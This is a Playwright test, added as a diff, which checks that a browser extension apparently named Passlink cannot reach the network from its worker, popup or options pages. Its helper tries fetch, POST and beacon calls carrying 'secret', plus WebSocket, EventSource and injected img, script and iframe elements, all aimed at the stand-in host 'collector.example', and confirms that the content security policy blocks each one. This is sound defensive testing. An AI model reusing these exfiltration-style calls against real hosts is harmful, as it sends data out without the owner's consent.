@@ -1,0 +1,54 @@
+import { expect, test } from '@playwright/test';
+
+import { launchPasslink } from '../support/extension.ts';
+
+/**
+ * Tries every way in which code of ours could send something, and gives those that the browser
+ * stopped by our policy. The host does not exist: only the policy's own word counts.
+ */
+async function stoppedByPolicy(): Promise<string[]> {
+  const host = 'collector.example';
+  const stopped: string[] = [];
+  globalThis.addEventListener('securitypolicyviolation', (event) => {
+    const { blockedURI, effectiveDirective } = event as SecurityPolicyViolationEvent;
+    stopped.push(`${effectiveDirective} ${new URL(blockedURI).pathname}`);
+  });
+  const tries = [
+    fetch(`https://${host}/fetch`, { mode: 'no-cors' }),
+    fetch(`https://${host}/post`, { mode: 'no-cors', method: 'POST', body: 'secret' }),
+  ];
+  await Promise.allSettled(tries);
+  new WebSocket(`wss://${host}/socket`).addEventListener('error', () => undefined);
+  const events = new EventSource(`https://${host}/events`);
+  if ('document' in globalThis) {
+    navigator.sendBeacon(`https://${host}/beacon`, 'secret');
+    for (const name of ['img', 'script', 'iframe'] as const) {
+      const element = document.createElement(name);
+      element.src = `https://${host}/${name}`;
+      document.body.append(element);
+    }
+  }
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  events.close();
+  // Of a frame the browser tells the host alone; a script is told twice.
+  return [...new Set(stopped)].toSorted();
+}
+
+const CONNECTIONS = ['/events', '/fetch', '/post', '/socket'];
+
+test('nothing of Passlink’s can reach the network, neither its background nor its pages', async () => {
+  const passlink = await launchPasslink();
+  const inWorker = await passlink.worker.evaluate(stoppedByPolicy);
+  expect(inWorker).toEqual(CONNECTIONS.map((path) => `connect-src ${path}`));
+  for (const page of [await passlink.openPopup(), await passlink.openOptions()]) {
+    expect(await page.evaluate(stoppedByPolicy)).toEqual(
+      [
+        ...[...CONNECTIONS, '/beacon'].map((path) => `connect-src ${path}`),
+        'frame-src /',
+        'img-src /img',
+        'script-src-elem /script',
+      ].toSorted(),
+    );
+  }
+  await passlink.close();
+});
